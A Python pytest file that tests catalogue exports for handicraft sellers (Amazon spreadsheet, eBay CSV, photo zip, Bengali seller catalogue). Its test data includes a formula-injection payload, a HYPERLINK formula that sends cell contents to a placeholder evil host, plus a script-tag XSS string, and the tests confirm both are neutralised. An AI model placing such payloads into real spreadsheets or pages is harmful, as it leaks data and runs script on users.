"""Catalogue exports written to disk and read back: what the marketplaces and the seller get."""

from __future__ import annotations

import csv
import dataclasses
import logging
import zipfile
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from PIL import Image

from services.catalogue import ExportRow, Listing, ProductFacts, Size, marketplace_photos
from services.exports import (
    AMAZON_COLUMNS,
    AMAZON_KEYWORDS_MAX_BYTES,
    DEFAULT_FULFILLMENT_LATENCY,
    EBAY_COLUMNS,
    MADE_TO_ORDER_QUANTITY,
    SELLER_COLUMNS,
    THUMB_PX,
    MarketTerms,
    cut_words,
    photo_name,
    safe_text,
    write_amazon_xlsx,
    write_ebay_csv,
    write_photos_zip,
    write_seller_catalogue_xlsx,
)
from storage.records import PhotoRecord

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
BN_TITLE = "বাঁকুড়ার হাতে তৈরি পোড়ামাটির ঘোড়া"
BN_DESC = "পাঁচমুড়া গ্রামের শিল্পীদের হাতে তৈরি।\nপ্রতিটি আলাদা।"
BN_HEADERS = {
    "photo": "ছবি",
    "sku": "এসকেইউ",
    "status": "অবস্থা",
    "craft": "শিল্প",
    "product": "কী",
    "price": "দাম ₹",
    "stock": "মজুত",
    "title": "শিরোনাম",
    "bullets": "বৈশিষ্ট্য",
    "hs": "এইচএস",
    "gi": "জিআই",
}


def url(p: Path) -> str:
    return f"https://img.example/{p.name}"


def jpeg(path: Path, size: tuple[int, int] = (400, 300), colour: str = "orange") -> Path:
    Image.new("RGB", size, colour).save(path, "JPEG", quality=80)
    return path


def make_row(
    tmp: Path, sku: str = "ES-001", photos: int = 3, facts: dict[str, Any] | None = None, **kw: Any
) -> ExportRow:
    base = ProductFacts(
        sku=sku,
        craft_id="dokra",
        material="pital",
        size=Size((12.04, 8.5, 20.0), "cm"),
        weight_g=450,
        colour="sonali",
        price_inr=1450,
        stock=4,
        days_to_make=10,
        district="BNK",
        brand="বিকনা ডোকরা",
    )
    listing = Listing(
        title="Handmade Dokra Brass Elephant, Lost-Wax Cast Tribal Art from Bankura",
        bullets=("Hand cast by Dokra artisans", "Antique golden finish", "About 12 x 8.5 x 20 cm"),
        description="A Dokra elephant.\nEach piece is unique.",
        keywords="dokra brass elephant tribal handmade",
        hs_heading="8306",
        gi_tagged=True,
        gi_name="Dokra of Bankura",
        material_en="Brass",
        colour_en="Golden",
        brand_en="Bikna Dokra",
    )
    listing = dataclasses.replace(listing, **kw)
    base = dataclasses.replace(base, **(facts or {}))
    paths = tuple(
        jpeg(tmp / f"{sku}-{i}.jpg", colour=("red", "green", "blue")[i % 3]) for i in range(photos)
    )
    return ExportRow(
        facts=base, listing=listing, seller_id=7, seller_name="Rina Karmakar", photos=paths
    )


def amazon(tmp: Path, rows: list[ExportRow], **kw: Any) -> list[dict[str, Any]]:
    path = tmp / "amazon.xlsx"
    assert write_amazon_xlsx(iter(rows), path, image_url=kw.pop("image_url", url), **kw) == len(
        rows
    )
    ws = load_workbook(path)["Template"]
    values = list(ws.iter_rows(values_only=True))
    assert values[0] == AMAZON_COLUMNS
    return [dict(zip(AMAZON_COLUMNS, v, strict=True)) for v in values[1:]]


def ebay(tmp: Path, rows: list[ExportRow], **kw: Any) -> list[dict[str, str]]:
    path = tmp / "ebay.csv"
    assert write_ebay_csv(iter(rows), path, image_url=kw.pop("image_url", url), **kw) == len(rows)
    with path.open(encoding="utf-8", newline="") as f:
        lines = list(csv.reader(f))
    assert lines[1] == list(EBAY_COLUMNS)
    return [dict(zip(EBAY_COLUMNS, line, strict=True)) for line in lines[2:]]


# --- Amazon ----------------------------------------------------------------------------------


def test_amazon_columns_keep_the_agreed_order() -> None:
    assert len(AMAZON_COLUMNS) == len(set(AMAZON_COLUMNS)) == 40
    assert AMAZON_COLUMNS[:4] == ("feed_product_type", "item_sku", "brand_name", "item_name")
    i = AMAZON_COLUMNS.index("main_image_url")
    assert AMAZON_COLUMNS[i + 1 : i + 9] == tuple(f"other_image_url{n}" for n in range(1, 9))
    assert AMAZON_COLUMNS[i + 9] == "update_delete"
    b = AMAZON_COLUMNS.index("bullet_point1")
    assert AMAZON_COLUMNS[b : b + 5] == tuple(f"bullet_point{n}" for n in range(1, 6))
    assert AMAZON_COLUMNS[-2:] == ("fulfillment_latency", "hs_code")


def test_amazon_sheet_header_is_bold_and_first(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_amazon_xlsx(iter([make_row(tmp_path)]), path, image_url=url)
    wb = load_workbook(path)
    assert wb.sheetnames == ["Template", "Notes"]
    assert "INR 92.00 = USD 1 (rate of 2026-01-23)" in wb["Notes"]["A1"].value
    header = next(wb["Template"].iter_rows(max_row=1))
    assert [c.value for c in header] == list(AMAZON_COLUMNS)
    assert all(c.font.bold for c in header)


def test_amazon_values(tmp_path: Path) -> None:
    (r,) = amazon(tmp_path, [make_row(tmp_path)])
    assert r["item_sku"] == "ES-001"
    assert r["brand_name"] == r["manufacturer"] == "Bikna Dokra"
    assert r["item_name"].startswith("Handmade Dokra Brass Elephant")
    assert r["standard_price"] == 15.77  # ₹1,450 at ₹92.00 to the dollar, rounded up
    assert r["currency"] == "USD"
    assert r["quantity"] == 4
    assert r["update_delete"] == "Update"
    assert r["external_product_id"] is None and r["external_product_id_type"] is None
    assert r["product_description"] == "A Dokra elephant.\nEach piece is unique."
    assert [r[f"bullet_point{n}"] for n in range(1, 6)] == [
        "Hand cast by Dokra artisans",
        "Antique golden finish",
        "About 12 x 8.5 x 20 cm",
        None,
        None,
    ]
    assert (r["color_name"], r["material_type"]) == ("Golden", "Brass")
    assert r["country_of_origin"] == r["country_as_labeled"] == "India"
    assert (r["item_length"], r["item_width"], r["item_height"]) == (12.0, 8.5, 20.0)
    assert r["item_dimensions_unit_of_measure"] == "CM"
    assert (r["item_weight"], r["item_weight_unit_of_measure"]) == (450, "GR")
    assert r["fulfillment_latency"] == DEFAULT_FULFILLMENT_LATENCY
    assert r["hs_code"] == "8306"


def test_amazon_leaves_unknowns_empty(tmp_path: Path) -> None:
    row = make_row(
        tmp_path,
        facts={"size": None, "weight_g": None, "price_inr": None, "brand": None},
        colour_en=None,
        material_en=None,
        brand_en=None,
    )
    (r,) = amazon(tmp_path, [row])
    # the seller's words ("sonali", "pital") are not English: never put into a buyer's field
    assert (r["color_name"], r["material_type"]) == (None, None)
    assert r["brand_name"] == "Rina Karmakar"
    assert r["standard_price"] is None
    assert r["item_length"] is r["item_dimensions_unit_of_measure"] is None
    assert r["item_weight"] is r["item_weight_unit_of_measure"] is None


@pytest.mark.parametrize(
    ("stock", "days", "latency"),
    [(0, 12, 12), (0, 45, 30), (0, None, DEFAULT_FULFILLMENT_LATENCY), (3, 12, 2), (None, 9, 2)],
)
def test_amazon_fulfillment_latency(
    tmp_path: Path, stock: int | None, days: int | None, latency: int
) -> None:
    (r,) = amazon(tmp_path, [make_row(tmp_path, facts={"stock": stock, "days_to_make": days})])
    assert r["fulfillment_latency"] == latency
    made_to_order = stock == 0 and bool(days)
    assert r["quantity"] == (MADE_TO_ORDER_QUANTITY if made_to_order else stock or 0)


def test_poor_photos_never_lead_and_blurred_ones_are_left_out(tmp_path: Path) -> None:
    def photo(position: int, *problems: str) -> PhotoRecord:
        path = jpeg(tmp_path / f"p{position}.jpg")
        return PhotoRecord(position, 1, position, f"h{position}", str(path), 400, 300, problems)

    photos = [photo(0, "blurry", "dark"), photo(1, "background"), photo(2), photo(3, "small")]
    chosen = marketplace_photos(photos)
    assert [p.name for p in chosen] == ["p2.jpg", "p1.jpg"]  # the clean one leads
    assert marketplace_photos([photo(4, "blurry")]) == ()


def test_amazon_images_main_first_at_most_nine(tmp_path: Path) -> None:
    row = make_row(tmp_path, photos=11)
    (r,) = amazon(tmp_path, [row])
    assert r["main_image_url"] == "https://img.example/ES-001-0.jpg"
    assert [r[f"other_image_url{n}"] for n in range(1, 9)] == [
        f"https://img.example/ES-001-{i}.jpg" for i in range(1, 9)
    ]
    (r,) = amazon(tmp_path, [make_row(tmp_path, "ES-002", photos=2)])
    assert r["other_image_url1"] == "https://img.example/ES-002-1.jpg"
    assert r["other_image_url2"] is None


def test_amazon_title_and_keywords_within_limits(tmp_path: Path) -> None:
    title = "Dokra " * 60
    keywords = "ডোকরা পিতলের হাতি " * 30
    (r,) = amazon(tmp_path, [make_row(tmp_path, title=title, keywords=keywords)])
    assert len(r["item_name"]) <= 200 and r["item_name"].endswith("Dokra")
    assert len(r["generic_keywords"].encode("utf-8")) <= AMAZON_KEYWORDS_MAX_BYTES
    assert keywords.startswith(r["generic_keywords"])


def test_amazon_formula_injection_neutralised(tmp_path: Path) -> None:
    row = make_row(
        tmp_path,
        title=EVIL,
        description="-2+3",
        bullets=(EVIL, "fine"),
        colour_en="+SUM(1,2)",
        material_en=" @cmd",
    )
    path = tmp_path / "a.xlsx"
    write_amazon_xlsx([row], path, image_url=url)
    ws = load_workbook(path)["Template"]
    cells = {c: ws.cell(2, AMAZON_COLUMNS.index(c) + 1) for c in AMAZON_COLUMNS}
    assert cells["item_name"].value == "'" + EVIL
    assert cells["bullet_point1"].value == "'" + EVIL
    assert cells["product_description"].value == "'-2+3"
    assert cells["color_name"].value == "'+SUM(1,2)"
    assert cells["material_type"].value == "'@cmd"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_amazon_streams_a_generator_once(tmp_path: Path) -> None:
    seen: list[str] = []

    def gen() -> Iterator[ExportRow]:
        for i in range(5):
            row = make_row(tmp_path, f"G-{i}", photos=1)
            seen.append(row.facts.sku)
            yield row

    assert write_amazon_xlsx(gen(), tmp_path / "g.xlsx", image_url=url) == 5
    assert seen == [f"G-{i}" for i in range(5)]
    assert write_amazon_xlsx(iter(()), tmp_path / "empty.xlsx", image_url=url) == 0
    rows = list(load_workbook(tmp_path / "empty.xlsx")["Template"].iter_rows(values_only=True))
    assert rows == [AMAZON_COLUMNS]


# --- eBay ------------------------------------------------------------------------------------


def test_ebay_first_lines_are_exact(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    write_ebay_csv([make_row(tmp_path)], path, image_url=url)
    lines = path.read_bytes().decode("utf-8").split("\r\n")
    assert lines[0] == "Info,Version=1.0.0,Template=fx_category_template_EBAY_US"
    assert lines[1] == (
        "*Action(SiteID=US|Country=US|Currency=USD|Version=1193|CC=UTF-8),CustomLabel,"
        "*Category,*Title,*ConditionID,*Description,*Format,*Duration,*StartPrice,*Quantity,"
        "PicURL,*Location,*DispatchTimeMax,C:Material,C:Color,C:Country/Region of Manufacture,"
        "ShippingProfileName,ReturnProfileName,PaymentProfileName"
    )
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_ebay_values(tmp_path: Path) -> None:
    terms = MarketTerms(
        inr_per_usd=Decimal("83.3333"),
        rate_date=date(2026, 11, 30),
        ebay_shipping_policy="Intl Shipping",
        ebay_return_policy="30 days",
        ebay_payment_policy="Managed payments",
    )
    (r,) = ebay(tmp_path, [make_row(tmp_path)], terms=terms, category_id="37908")
    assert r[EBAY_COLUMNS[0]] == "Add"
    assert r["CustomLabel"] == "ES-001"
    assert r["*Category"] == "37908"
    assert r["*ConditionID"] == "1000"
    assert (r["*Format"], r["*Duration"]) == ("FixedPrice", "GTC")
    assert r["*StartPrice"] == "17.41"  # 1450 / 83.3333 = 17.40001, rounded up
    assert (r["ShippingProfileName"], r["ReturnProfileName"], r["PaymentProfileName"]) == (
        "Intl Shipping",
        "30 days",
        "Managed payments",
    )
    assert r["*Quantity"] == "4"
    assert r["PicURL"] == "|".join(f"https://img.example/ES-001-{i}.jpg" for i in range(3))
    assert r["*Location"] == "Bankura, West Bengal, India"
    assert r["*DispatchTimeMax"] == "10"
    assert (r["C:Material"], r["C:Color"]) == ("Brass", "Golden")
    assert r["C:Country/Region of Manufacture"] == "India"
    assert r["*Description"] == (
        "<p>A Dokra elephant.</p><p>Each piece is unique.</p><ul><li>Hand cast by Dokra "
        "artisans</li><li>Antique golden finish</li><li>About 12 x 8.5 x 20 cm</li></ul>"
    )


def test_ebay_defaults(tmp_path: Path) -> None:
    rows = [
        make_row(tmp_path, "A", facts={"district": None, "days_to_make": None, "price_inr": 999}),
        make_row(tmp_path, "B", facts={"district": "XXX", "days_to_make": 0, "stock": None}),
        make_row(tmp_path, "C", facts={"days_to_make": 90, "price_inr": None}),
    ]
    a, b, c = ebay(tmp_path, rows)
    assert a["*Category"] == ""
    assert a["*StartPrice"] == "10.86"  # ₹999 at the default ₹92.00, rounded up
    assert a["ShippingProfileName"] == ""  # no policy named: left for the seller
    assert a["*Location"] == b["*Location"] == "West Bengal, India"
    assert (a["*DispatchTimeMax"], b["*DispatchTimeMax"], c["*DispatchTimeMax"]) == ("3", "3", "30")
    assert b["*Quantity"] == "0"
    assert c["*StartPrice"] == ""


def test_ebay_title_cut_at_a_word_boundary(tmp_path: Path) -> None:
    title = (
        "Handmade Dokra Brass Elephant Figurine, Lost-Wax Cast Tribal Art from Bankura West Bengal"
    )
    assert len(title) > 80
    (r,) = ebay(tmp_path, [make_row(tmp_path, title=title)])
    cut = r["*Title"]
    assert 0 < len(cut) <= 80
    assert title.startswith(cut) and title[len(cut)] == " "
    (r,) = ebay(tmp_path, [make_row(tmp_path, title="x" * 100)])
    assert r["*Title"] == "x" * 80


def test_ebay_at_most_twelve_pictures(tmp_path: Path) -> None:
    (r,) = ebay(tmp_path, [make_row(tmp_path, photos=14)])
    urls = r["PicURL"].split("|")
    assert len(urls) == 12 and urls[0].endswith("ES-001-0.jpg") and urls[-1].endswith("-11.jpg")


def test_ebay_bengali_survives_utf8(tmp_path: Path) -> None:
    (r,) = ebay(
        tmp_path,
        [
            make_row(
                tmp_path,
                title=BN_TITLE,
                description=BN_DESC,
                colour_en="লাল",
            )
        ],
    )
    assert r["*Title"] == BN_TITLE
    assert r["*Description"].startswith(f"<p>{BN_DESC.splitlines()[0]}</p>")
    assert r["C:Color"] == "লাল"
    (tmp_path / "ebay.csv").read_bytes().decode("utf-8", errors="strict")


def test_ebay_formula_injection_neutralised_and_html_escaped(tmp_path: Path) -> None:
    row = make_row(
        tmp_path,
        title=EVIL,
        description="<script>alert(1)</script> & more",
        colour_en="  -1+1",
        material_en="@evil",
    )
    (r,) = ebay(tmp_path, [row])
    assert r["*Title"] == cut_words("'" + EVIL, 80)
    assert r["*Title"].startswith("'=")
    assert (r["C:Color"], r["C:Material"]) == ("'-1+1", "'@evil")
    assert "<script>" not in r["*Description"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; more" in r["*Description"]
    assert not any(v.lstrip().startswith(("=", "+", "-", "@")) for v in r.values())


# --- Photos zip ------------------------------------------------------------------------------


def test_photo_name_follows_amazons_convention(tmp_path: Path) -> None:
    row = make_row(tmp_path, "ES-9", photos=0)
    assert [photo_name(row, i) for i in (0, 1, 2, 8)] == [
        "ES-9.MAIN.jpg",
        "ES-9.PT01.jpg",
        "ES-9.PT02.jpg",
        "ES-9.PT08.jpg",
    ]
    assert photo_name(row, 10) == "ES-9.PT10.jpg"
    slashed = make_row(tmp_path, "A/B", photos=0)
    assert photo_name(slashed, 0) == "A_B.MAIN.jpg"


def test_zip_holds_every_photo_stored_under_amazon_names(tmp_path: Path) -> None:
    rows = [make_row(tmp_path, "A", photos=3), make_row(tmp_path, "B", photos=1)]
    path = tmp_path / "photos.zip"
    assert write_photos_zip(iter(rows), path) == 4
    with zipfile.ZipFile(path) as zf:
        assert zf.namelist() == ["A.MAIN.jpg", "A.PT01.jpg", "A.PT02.jpg", "B.MAIN.jpg"]
        assert all(i.compress_type == zipfile.ZIP_STORED for i in zf.infolist())
        assert zf.read("A.PT02.jpg") == rows[0].photos[2].read_bytes()
        assert zf.read("B.MAIN.jpg") == rows[1].photos[0].read_bytes()
        assert zf.testzip() is None


def test_zip_skips_missing_files_and_numbers_like_the_urls(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    row = make_row(tmp_path, "M", photos=4)
    row.photos[0].unlink()
    row = dataclasses.replace(row, photos=(*row.photos, tmp_path / "never.jpg"))
    with caplog.at_level(logging.WARNING, logger="services.exports"):
        assert write_photos_zip([row], tmp_path / "p.zip") == 3
    assert "2 missing" in caplog.text
    with zipfile.ZipFile(tmp_path / "p.zip") as zf:
        assert zf.namelist() == ["M.MAIN.jpg", "M.PT01.jpg", "M.PT02.jpg"]
        assert zf.read("M.MAIN.jpg") == row.photos[1].read_bytes()
    (r,) = amazon(tmp_path, [row])
    assert r["main_image_url"].endswith("M-1.jpg")
    assert r["other_image_url3"] is None


def test_base_url_points_at_the_zip_names(tmp_path: Path) -> None:
    rows = [make_row(tmp_path, "A", photos=3), make_row(tmp_path, "B b", photos=2)]
    write_photos_zip(rows, tmp_path / "p.zip")
    with zipfile.ZipFile(tmp_path / "p.zip") as zf:
        names = zf.namelist()
    base = "https://cdn.example/shop-7/"
    a, b = amazon(tmp_path, rows, image_url=base)
    got = [a["main_image_url"], a["other_image_url1"], a["other_image_url2"]]
    got += [b["main_image_url"], b["other_image_url1"]]
    assert got == [base + n.replace(" ", "%20") for n in names]
    ea, eb = ebay(tmp_path, rows, image_url=base.rstrip("/"))
    assert (ea["PicURL"] + "|" + eb["PicURL"]).split("|") == got


def test_zip_custom_names(tmp_path: Path) -> None:
    row = make_row(tmp_path, "C", photos=2)
    path = tmp_path / "c.zip"
    assert (
        write_photos_zip([row], path, name=lambda r, i: f"{r.seller_id}/{r.facts.sku}-{i}.jpg") == 2
    )
    with zipfile.ZipFile(path) as zf:
        assert zf.namelist() == ["7/C-0.jpg", "7/C-1.jpg"]


# --- Seller catalogue ------------------------------------------------------------------------


def test_seller_catalogue_uses_the_given_headers_and_labels(tmp_path: Path) -> None:
    rows = [
        make_row(tmp_path, "A"),
        make_row(
            tmp_path,
            "B",
            photos=0,
            facts={"craft_id": None, "what_text": "বাঁশের ঝুড়ি", "stock": 0},
            gi_tagged=False,
            hs_heading=None,
        ),
    ]
    rows[1] = dataclasses.replace(rows[1], status="draft")
    path = tmp_path / "s.xlsx"
    labels = {"draft": "খসড়া", "ready": "তৈরি", "yes": "হ্যাঁ", "no": "না"}
    assert (
        write_seller_catalogue_xlsx(rows, path, locale="bn", headers=BN_HEADERS, labels=labels) == 2
    )
    ws = load_workbook(path).active
    assert [c.value for c in ws[1]] == [BN_HEADERS[k] for k in SELLER_COLUMNS]
    assert all(c.font.bold for c in ws[1])
    a = {k: ws.cell(2, i + 1) for i, k in enumerate(SELLER_COLUMNS)}
    b = {k: ws.cell(3, i + 1).value for i, k in enumerate(SELLER_COLUMNS)}
    assert (a["sku"].value, a["status"].value, a["craft"].value) == ("A", "তৈরি", "ডোকরা")
    assert a["price"].value == 1450 and "₹" in a["price"].number_format
    assert a["stock"].value == 4
    assert a["bullets"].value == "\n".join(rows[0].listing.bullets)
    assert a["bullets"].alignment.wrap_text
    assert (a["hs"].value, a["gi"].value) == ("8306", "হ্যাঁ")
    assert (b["status"], b["craft"], b["product"], b["stock"]) == ("খসড়া", None, "বাঁশের ঝুড়ি", 0)
    assert (b["gi"], b["hs"]) == ("না", None)


def test_seller_catalogue_embeds_one_thumbnail_per_row_with_a_photo(tmp_path: Path) -> None:
    big = make_row(tmp_path, "A", photos=2)
    big = dataclasses.replace(big, photos=(jpeg(tmp_path / "big.jpg", (1600, 1200)), *big.photos))
    rows = [big, make_row(tmp_path, "B", photos=0), make_row(tmp_path, "C", photos=1)]
    path = tmp_path / "s.xlsx"
    write_seller_catalogue_xlsx(iter(rows), path, locale="en", headers=BN_HEADERS)
    ws = load_workbook(path).active
    images = ws._images
    assert len(images) == 2
    anchors = sorted((img.anchor._from.row, img.anchor._from.col) for img in images)
    assert anchors == [(1, 0), (3, 0)]  # zero-based: rows 2 and 4, column A
    assert all(max(img.width, img.height) <= THUMB_PX for img in images)
    assert ws.row_dimensions[2].height >= 90 * 0.75
    assert ws.cell(2, 4).value == "Dokra metal craft"  # locale "en"
    assert ws.cell(2, 3).value == "ready"  # no labels: English status


def test_seller_catalogue_needs_every_header(tmp_path: Path) -> None:
    headers = {k: v for k, v in BN_HEADERS.items() if k != "stock"}
    with pytest.raises(ValueError, match="stock"):
        write_seller_catalogue_xlsx([], tmp_path / "s.xlsx", locale="bn", headers=headers)
    assert not (tmp_path / "s.xlsx").exists()


def test_seller_catalogue_neutralises_formulas(tmp_path: Path) -> None:
    row = make_row(tmp_path, photos=0, facts={"craft_id": None, "what_text": EVIL}, title="+1")
    path = tmp_path / "s.xlsx"
    write_seller_catalogue_xlsx([row], path, locale="bn", headers=BN_HEADERS)
    ws = load_workbook(path).active
    assert ws.cell(2, SELLER_COLUMNS.index("product") + 1).value == "'" + EVIL
    assert ws.cell(2, SELLER_COLUMNS.index("title") + 1).value == "'+1"
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)


# --- Text helpers ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'=1+1"),
        ("\t+CMD", "'+CMD"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("a=b", "a=b"),
        ("বাঁকুড়া", "বাঁকুড়া"),
        ("bell\x07 ok", "bell ok"),
        ("   ", None),
        (None, None),
    ],
)
def test_safe_text(raw: str | None, safe: str | None) -> None:
    assert safe_text(raw) == safe


@pytest.mark.parametrize(
    ("text", "limit", "cut"),
    [
        ("short", 80, "short"),
        ("one two three", 9, "one two"),
        ("one two, three", 9, "one two"),
        ("abcdef", 4, "abcd"),
        ("কাঁথা", 4, "কাঁ"),  # never leaves থ without its vowel sign া
    ],
)
def test_cut_words(text: str, limit: int, cut: str) -> None:
    assert cut_words(text, limit) == cut
